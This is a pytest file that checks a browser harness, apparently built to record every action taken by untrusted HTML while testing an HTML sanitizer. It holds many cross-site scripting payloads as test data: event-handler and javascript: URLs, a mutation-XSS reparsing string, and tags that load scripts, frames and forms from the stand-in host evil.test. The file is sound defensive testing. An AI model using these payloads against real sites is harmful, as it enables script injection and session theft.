"""The stage records every action, so an empty record proves that a source does nothing."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.slow, pytest.mark.any_database]

FOLDER = Path(__file__).parent
WAYS = ["parsed", "inserted"]

HANDLER = re.compile(r"<[^>]*\bon\w+\s*=[^>]*\balert\(", re.IGNORECASE)
# These payloads would close, reload or stop the stage.
UNRULY = re.compile(r"location|while|for\s*\(|open\(|write|close|parent|top|reload|href", re.I)


def fired(done: dict[str, set[str]]) -> list[str]:
    """Return the sources that ran a script."""
    marks = ("called ", "broke script-src")
    return [source for source, seen in done.items() if any(one.startswith(marks) for one in seen)]


@pytest.mark.parametrize("way", WAYS)
def test_payloads_that_nobody_cleaned_fire(stage: Any, payloads: list[str], way: str) -> None:
    raw = [text for text in payloads if HANDLER.search(text) and not UNRULY.search(text)]

    done = stage.perform(raw[:: len(raw) // 150], way, together=1)

    assert len(fired(done)) >= 100


def test_payloads_that_nobody_vetted_fire_as_an_address(stage: Any, payloads: list[str]) -> None:
    raw = [text for text in payloads if re.match(r"javascript:[^\"]*alert\(", text)]
    links = [f'<a href="{text}">x</a>' for text in raw if not UNRULY.search(text)]

    done = stage.perform(links, "inserted", together=1)

    assert len(fired(done)) >= 20


@pytest.mark.parametrize(
    ("source", "seen"),
    [
        ("<script>alert(1)</script>", "called alert"),
        ("<script>console.log(1)</script>", "called console"),
        ("<script>x = 1</script>", "broke script-src-elem: inline x = 1"),
        ("<script src=//evil.test/x.js></script>", "requested script https://evil.test/x.js"),
        ("<img src=x onerror=x()>", "broke script-src-attr: inline x()"),
        ("<p onmouseover=confirm(1)>x</p>", "called confirm"),
        ("<a href='javascript:prompt(1)'>x</a>", "called prompt"),
        ("<a href='data:text/html,x'>x</a>", "left the page"),
        ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "called alert"),
        ("<iframe src=//evil.test/></iframe>", "broke frame-src: https://evil.test"),
        ("<object data=//evil.test/></object>", "broke object-src: https://evil.test"),
        (
            "<link rel=stylesheet href=//evil.test/x.css>",
            "requested stylesheet https://evil.test/x.css",
        ),
        ("<style>p { color: red }</style>", "broke style-src-elem: inline"),
        (
            "<form action=//evil.test/><button>x</button></form>",
            "requested document https://evil.test/?",
        ),
        (
            "<meta http-equiv=refresh content='0;url=//evil.test/'>",
            "requested document https://evil.test/",
        ),
        ("<img name=cookie>", "replaced document.cookie"),
        ("</div>x<div>", "left its box"),
    ],
)
def test_every_action_of_a_source_is_recorded(stage: Any, source: str, seen: str) -> None:
    done = stage.perform([source], "parsed", together=1)

    assert seen in set().union(*done.values())


def test_a_script_that_runs_only_after_reparsing_is_recorded(stage: Any) -> None:
    source = "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"

    assert "called alert" in stage.perform([source], "inserted")[source]


def test_the_source_of_an_action_is_found_among_many(stage: Any) -> None:
    sources = [f"<p>{number}</p>" for number in range(9)]

    done = stage.perform([*sources, "<p onclick=alert(1)>x</p>", *sources], "inserted")

    assert list(done) == ["<p onclick=alert(1)>x</p>"]


def test_ordinary_pages_do_nothing(stage: Any) -> None:
    page = (
        '<p style="color: red">x <a href="#y">y</a> <a href="//example.org/" target="_blank">z</a>'
        '<img src="x.png"></p><iframe src="https://www.youtube.com/embed/x"></iframe>'
    )

    assert stage.perform([page], "parsed") == {}
    assert stage.perform([page], "inserted") == {}


@pytest.mark.parametrize(("ci", "outcome"), [("true", "1 error"), ("", "1 skipped")])
def test_without_a_browser_ci_fails_and_other_runs_skip_with_a_reason(
    tmp_path: Path, ci: str, outcome: str
) -> None:
    test = f"{FOLDER / 'test_stage.py'}::test_ordinary_pages_do_nothing"

    result = subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-n", "0", test],
        env=os.environ | {"PATH": str(tmp_path), "CI": ci},
        capture_output=True,
        text=True,
        check=False,
    )

    assert outcome in result.stdout
    assert "no Chromium on PATH (on Debian: apt install chromium)" in result.stdout
